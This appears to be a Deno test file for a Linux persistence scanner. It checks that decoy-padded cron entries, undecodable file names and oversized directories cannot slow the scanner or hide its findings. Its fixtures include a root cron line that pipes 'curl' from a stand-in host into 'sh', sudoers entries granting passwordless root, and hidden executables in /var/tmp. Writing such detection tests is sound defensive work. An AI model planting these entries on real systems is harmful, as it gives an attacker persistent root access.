/**
 * What a planted file cannot do to the persistence scanner: make it take minutes (a line of decoy paths, a line
 * of pipes) or have it report nothing while it ran out of time. Programs are judged one by one up to a budget,
 * an entry past it is a finding of its own, and the families' findings are kept whatever happens after them.
 */
import assert from "node:assert/strict";
import { PATH_BUDGET } from "../../src/scanners/persistence/assess.ts";
import { LIMITS } from "../../src/scanners/persistence/collect.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne } from "../helpers.ts";
import { exe, fired, withAccounts } from "./persistence_fixtures.ts";

const decoys = (n: number) => Array.from({ length: n }, (_, i) => `/n/${i}`).join(";");

Deno.test("persistence: an entry naming more programs than the budget is reported, and judged up to it", async () => {
  using root = makeTree(withAccounts({
    // The planted program first: judged. Then 300 decoys: the entry is past the budget.
    "etc/cron.d/sync": `* * * * * root /var/tmp/.a;${decoys(300)}\n`,
    "var/tmp/.a": exe("#!/bin/sh\n"),
    // The planted program after the budget: only the entry's size says something is there.
    "etc/cron.d/pad": `* * * * * root ${decoys(PATH_BUDGET.perEntry)};/var/tmp/.b\n`,
    "var/tmp/.b": exe("#!/bin/sh\n"),
    // An ordinary line.
    "etc/cron.d/ok": "0 3 * * * root /usr/bin/true && /usr/bin/true\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.untrusted_path /etc/cron.d/sync:1",
    "medium persistence.entry.unjudged_programs /etc/cron.d/pad:1",
    "medium persistence.entry.unjudged_programs /etc/cron.d/sync:1",
  ]);
  const pad = r.findings.find((f) => f.metadata.path === "/etc/cron.d/pad")!;
  assert.deepEqual([pad.metadata.named, pad.metadata.judged], [
    PATH_BUDGET.perEntry + 1,
    PATH_BUDGET.perEntry,
  ]);
});

Deno.test("persistence: a megabyte of decoy paths, or of pipes, is judged in seconds, and other findings are kept", async () => {
  using root = makeTree(withAccounts({
    "etc/cron.d/a": `* * * * * root ${decoys(120_000)}\n`,
    "var/spool/cron/crontabs/alice": `* * * * * echo 'curl ${"|".repeat(1 << 20)}' >/dev/null\n`,
    "etc/sudoers": "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    "etc/sudoers.d/90-x": "nobody ALL=(ALL:ALL) NOPASSWD: ALL\n",
  }));
  const started = performance.now();
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  const ms = performance.now() - started;
  assert.equal(r.status, "ok", r.reason);
  assert.ok(ms < 20_000, `${ms.toFixed(0)} ms (the scanner's budget is 30 s)`);
  assert.ok(r.findings.some((f) => f.check_id === "persistence.sudoers.nopasswd_all"), "the sudoers finding");
  assert.ok(r.findings.some((f) => f.check_id === "persistence.entry.unjudged_programs"));
});

Deno.test("persistence: a file whose name is not valid UTF-8 is a finding; a name with a literal U+FFFD is read", async () => {
  using root = makeTree(withAccounts({
    "etc/sudoers": "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    "etc/sudoers.d/\uFFFDok": "bob ALL=(ALL:ALL) NOPASSWD: ALL\n",
  }));
  // Names made of raw bytes: Deno writes paths as UTF-8, bash does not care.
  const made = new Deno.Command("/bin/bash", {
    args: [
      "-c",
      "cd \"$0\" && printf 'nobody ALL=(ALL) NOPASSWD: ALL\\n' > etc/sudoers.d/$'\\xff' && " +
      "mkdir -p etc/profile.d && printf 'true\\n' > etc/profile.d/$'\\xfe'.sh",
      root.path,
    ],
  }).outputSync();
  assert.ok(made.success, new TextDecoder().decode(made.stderr));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(
    r.findings.filter((f) => f.check_id === "persistence.file.undecodable_name").map((f) =>
      f.metadata.directory
    )
      .sort(),
    ["/etc/profile.d", "/etc/sudoers.d"],
  );
  // The valid name holding U+FFFD is read like any other.
  assert.ok(
    r.findings.some((f) =>
      f.check_id === "persistence.sudoers.nopasswd_all" && String(f.metadata.path).includes("\uFFFD")
    ),
  );
});

Deno.test("persistence: a directory past the entry bound is a finding, whichever entries were left out", async () => {
  using root = makeTree(
    withAccounts({ "etc/cron.d/zz-planted": "* * * * * root curl -s http://x/y | sh\n" }),
  );
  for (let i = 0; i < LIMITS.dirEntries; i++) Deno.writeTextFileSync(`${root.path}/etc/cron.d/pad${i}`, "");
  const started = performance.now();
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.ok(performance.now() - started < 25_000, "well inside the scanner's budget");
  assert.deepEqual(
    r.findings.filter((f) => f.check_id === "persistence.file.oversized").map((f) => f.metadata.path),
    ["/etc/cron.d"],
  );
});
